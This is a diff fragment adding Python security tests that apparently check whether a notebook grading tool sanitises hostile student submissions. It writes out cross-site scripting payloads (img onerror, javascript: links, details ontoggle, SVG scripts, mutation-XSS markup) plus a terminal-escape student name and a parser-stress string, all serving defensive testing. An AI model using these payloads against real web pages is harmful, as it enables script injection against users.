+    "$\\href{javascript:window.convlabAttack=1}{x}$ $$<img src=x onerror=window.convlabAttack=1>$$",
+    "<details open ontoggle=window.convlabAttack=1><math><mtext></form><form><mglyph><style></math><img src onerror=1>",
+    "[" * 5000 + "> " * 5000,
+]
+
+
+@attack("pages", "scripts_in_markdown")
+def scripts_in_markdown(course, student):
+    notebook = json.loads(json.dumps(tiny.release(course)))
+    kinds = ("markdown", "raw", "heading", "html")
+    svg = "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"
+    for number, text in enumerate(MARKDOWN):
+        for kind in kinds:
+            attached = {
+                "evil.svg": {"image/svg+xml": svg},
+                "evil.html": {"text/html": SCRIPT},
+                "a": {"image/png": SCRIPT},
+            }
+            metadata = {"raw_mimetype": "text/html", "format": "text/html"}
+            cell = {
+                "cell_type": kind,
+                "source": text,
+                "metadata": metadata,
+                "attachments": attached,
+                "id": f"m{number}{kind}",
+            }
+            notebook["cells"].append(cell)
+    next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == tiny.WRITTEN)[
+        "source"
+    ] = "\n\n".join(MARKDOWN[:4])
+    notebook["metadata"]["title"] = SCRIPT
+    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPT}}}
+    tiny.submit(course, student, notebook)
+    folder = tiny.folder_of(course, student)
+    (folder / "evil.html").write_text(SCRIPT)
+    (folder / "evil.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
+
+
+@attack("pages", "code_turned_from_markdown")
+def _(course, student):
+    notebook = json.loads(json.dumps(tiny.release(course)))
+    for cell in notebook["cells"]:
+        if cell["metadata"].get("nbgrader", {}).get("grade_id") == tiny.WRITTEN:
+            cell.update(cell_type="code", source=SCRIPT, outputs=[], execution_count=None)
+    tiny.submit(course, student, notebook)
+
+
+@attack("pages", "student_<img src=x onerror=alert(1)>", graded=False, words="the name of a student")
+def _(course, student):
+    tiny.submit(course, student, tiny.right(tiny.release(course)))
+
+
+@attack("pages", "student_\x1b[2Jname", graded=False, words="the name of a student")
+def _(course, student):
+    tiny.submit(course, student, tiny.right(tiny.release(course)))
+
+
+def forget(course):
+    """Remove all submissions."""
+    shutil.rmtree(course / "submitted", ignore_errors=True)
